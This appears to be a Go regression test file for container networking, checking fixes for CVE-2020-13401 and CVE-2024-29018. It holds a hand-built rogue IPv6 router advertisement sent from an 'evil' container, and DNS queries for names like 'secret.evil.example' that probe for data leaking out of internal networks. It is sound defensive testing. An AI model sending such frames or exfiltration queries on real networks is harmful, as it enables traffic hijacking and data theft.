//go:build root

package network

import (
	"encoding/binary"
	"net"
	"net/netip"
	"os"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/miekg/dns"
	"github.com/moby/moby/api/types/network"
	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// A container sends router advertisements, as its right to raw packets allows:
// neither its neighbours nor the host may take it for their router.
func TestCVE_2020_13401_RouterAdvertisements(t *testing.T) {
	for name, ipv6 := range map[string]bool{"on a network without IPv6": false, "on a network with IPv6": true} {
		t.Run(name, func(t *testing.T) { advertise(t, newLab(t, func(o *Options) { o.IPv6 = ipv6 })) })
	}
}

func advertise(t *testing.T, l *lab) {
	evil, victim := l.run("evil", []string{"bridge"}), l.run("victim", []string{"bridge"})
	send := func() error {
		nl, err := netlink.LinkByName("eth0")
		if err != nil {
			return err
		}
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
		if err != nil {
			return err
		}
		defer func() { _ = unix.Close(fd) }()
		frame := advertisement(nl.Attrs().HardwareAddr)
		for range 5 {
			if err := unix.Sendto(fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: nl.Attrs().Index}); err != nil {
				return err
			}
		}
		return nil
	}
	if err := l.inside(evil, send); err != nil {
		t.Fatal(err)
	}
	time.Sleep(50 * time.Millisecond) // an address would be there at once
	taken := func() error {
		addrs, err := net.InterfaceAddrs()
		for _, a := range addrs {
			if strings.HasPrefix(a.String(), "2001:db8:bad") {
				t.Errorf("address %s was taken", a)
			}
		}
		routes, _ := os.ReadFile("/proc/net/ipv6_route")
		if strings.Contains(string(routes), "20010db80bad") || strings.Contains(string(routes), "fe800000000000000000000000000bad") {
			t.Errorf("routes were taken:\n%s", routes)
		}
		return err
	}
	for who, s := range map[string]*Sandbox{"the neighbour": victim, "the host": nil} {
		if err := l.inside(s, taken); err != nil {
			t.Errorf("%s: %v", who, err)
		}
	}
	ra, err := os.ReadFile("/proc/sys/net/ipv6/conf/skiff0/accept_ra")
	off, _ := os.ReadFile("/proc/sys/net/ipv6/conf/skiff0/disable_ipv6")
	if err == nil && strings.TrimSpace(string(ra)) != "0" && strings.TrimSpace(string(off)) != "1" {
		t.Error("the host's bridge listens to routers")
	}
	// Who does listen takes it: a neighbour that is told to.
	listens := func() error {
		for knob, v := range map[string]string{"disable_ipv6": "0", "forwarding": "0", "autoconf": "1", "accept_ra": "2"} {
			if err := os.WriteFile("/proc/sys/net/ipv6/conf/eth0/"+knob, []byte(v), 0); err != nil {
				return err
			}
		}
		return nil
	}
	if err := l.inside(victim, listens); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the advertisement is taken by who listens", func() bool {
		if err := l.inside(evil, send); err != nil {
			t.Fatal(err)
		}
		var all []net.Addr
		err := l.inside(victim, func() (err error) {
			all, err = net.InterfaceAddrs()
			return err
		})
		return err == nil && slices.ContainsFunc(all, func(a net.Addr) bool { return strings.HasPrefix(a.String(), "2001:db8:bad") })
	})
}

// advertisement is a frame by which fe80::bad becomes the router of 2001:db8:bad::/64.
func advertisement(mac net.HardwareAddr) []byte {
	src, dst := netip.MustParseAddr("fe80::bad").As16(), netip.MustParseAddr("ff02::1").As16()
	prefix := netip.MustParseAddr("2001:db8:bad::").As16()
	icmp := []byte{134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0}
	icmp = append(icmp, 3, 4, 64, 0xc0, 0, 0, 0xff, 0xff, 0, 0, 0xff, 0xff, 0, 0, 0, 0)
	icmp = append(icmp, prefix[:]...)
	icmp = append(append(icmp, 1, 1), mac...)
	sum := uint32(len(icmp)) + 58
	for _, part := range [][]byte{src[:], dst[:], icmp} {
		for i := 0; i+1 < len(part); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(part[i:]))
		}
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(icmp[2:], ^uint16(sum)) //nolint:gosec // 16 bits by now
	ip := []byte{0x60, 0, 0, 0, 0, byte(len(icmp)), 58, 255}
	ip = append(append(ip, src[:]...), dst[:]...)
	frame := append([]byte{0x33, 0x33, 0, 0, 0, 1}, mac...)
	frame = append(frame, 0x86, 0xdd)
	return append(append(frame, ip...), icmp...)
}

// A container on internal networks alone sends what it knows to a name server
// of somebody's, as a name: no question may leave.
func TestCVE_2024_29018_NoQuestionLeaves(t *testing.T) {
	l := newLab(t)
	l.outside()
	var asked atomic.Int64
	pc, err := net.ListenPacket("udp4", "198.51.100.1:53")
	if err != nil {
		t.Fatal(err)
	}
	srv := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		asked.Add(1)
		_ = w.WriteMsg(new(dns.Msg).SetReply(q))
	})}
	go func() { _ = srv.ActivateAndServe() }()
	t.Cleanup(func() { _ = srv.ShutdownContext(t.Context()) })
	server := func(s *SandboxSpec) { s.DNS = append(s.DNS, mustAddr("198.51.100.1")) }
	l.network("closed", func(r *network.CreateRequest) { r.Internal = true })
	l.network("closed2", func(r *network.CreateRequest) { r.Internal = true })
	l.network("open")
	in := l.run("in", []string{"closed", "closed2"}, server)
	for _, name := range []string{"secret.evil.example", "secret.evil.example.", "in.evil.example", "c.closed.example", "x"} {
		for _, typ := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypePTR, dns.TypeANY} {
			for _, proto := range []string{"udp4", "tcp4"} {
				_, _ = l.ask(in, proto, name, typ)
			}
		}
	}
	if rev, err := dns.ReverseAddr("203.0.113.9"); err == nil {
		_, _ = l.ask(in, "udp4", rev, dns.TypePTR)
	}
	l.unreachable(in, "udp4", "198.51.100.1:53") // nor by itself
	if n := asked.Load(); n != 0 {
		t.Errorf("%d questions left the internal network", n)
	}
	// The server does answer, to those who may ask.
	if _, err := l.ask(l.run("web", []string{"open"}, server), "udp4", "example.org", dns.TypeA); err != nil || asked.Load() == 0 {
		t.Errorf("from an open network: %d questions, %v", asked.Load(), err)
	}
}
